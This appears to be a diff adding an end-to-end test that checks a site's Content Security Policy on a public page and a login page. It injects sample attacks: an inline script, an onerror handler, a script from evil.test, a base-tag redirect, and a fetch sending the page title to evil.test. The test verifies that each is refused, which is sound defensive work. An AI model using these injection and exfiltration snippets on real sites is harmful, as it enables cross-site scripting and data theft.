@@ -1,0 +1,33 @@
+import { expect, test } from "../../support/journey.ts";
+
+/** What the page's policy refused, by directive, once the page has done `what`. */
+const refusedBy = (what: string) => `
+  new Promise((resolve) => {
+    document.addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective));
+    ${what}
+  })`;
+
+const inline = `document.head.append(Object.assign(document.createElement("script"), { textContent: "window.ran = 1" }))`;
+const handler = `document.body.insertAdjacentHTML("beforeend", '<img src="/assente.png" onerror="window.ran = 1">')`;
+const foreign = `document.head.append(Object.assign(document.createElement("script"), { src: "https://evil.test/a.js" }))`;
+const base = `document.head.append(Object.assign(document.createElement("base"), { href: "https://evil.test/" }))`;
+const leak = `fetch("https://evil.test/?" + document.title).catch(() => undefined)`;
+
+test.describe("on a public page and in the app", () => {
+  for (const path of ["/servizi", "/login"]) {
+    for (const [name, what, directive] of [
+      ["a script in the text", inline, "script-src-elem"],
+      ["a handler in the text", handler, "script-src-attr"],
+      ["another site's script", foreign, "script-src-elem"],
+      ["another base of addresses", base, "base-uri"],
+      ["a message to another site", leak, "connect-src"],
+    ] as const) {
+      test(`${path}: ${name} is refused`, async ({ page, allowErrors }) => {
+        allowErrors(/Content Security Policy|status of 404/);
+        await page.goto(path);
+        expect(await page.evaluate(refusedBy(what))).toBe(directive);
+        expect(await page.evaluate("window.ran")).toBeUndefined();
+      });
+    }
+  }
+});
